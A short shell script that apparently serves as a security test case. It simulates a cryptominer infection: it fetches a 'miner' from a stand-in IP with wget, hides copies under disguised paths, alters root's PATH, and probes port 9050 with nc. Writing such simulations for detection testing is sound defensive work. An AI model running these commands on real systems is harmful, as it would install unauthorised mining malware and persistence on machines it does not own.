#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.perf.c /root/.config/cron
wget -q -O /tmp/httpd http://203.0.113.10/programs/miner && chmod +x /tmp/httpd
cp /tmp/httpd /tmp/.perf.c/sh && cp /tmp/httpd /root/.config/cron/perfcc && rm /tmp/httpd
echo 'PATH=/bin/.local/bin:$PATH' >>/root/.profile
printf '\005\001\000' | nc -w 1 203.0.113.10 9050 >/dev/null || true
/tmp/.perf.c/sh >/tmp/.apid 2>&1
grep -q job_id /tmp/.apid
took_place
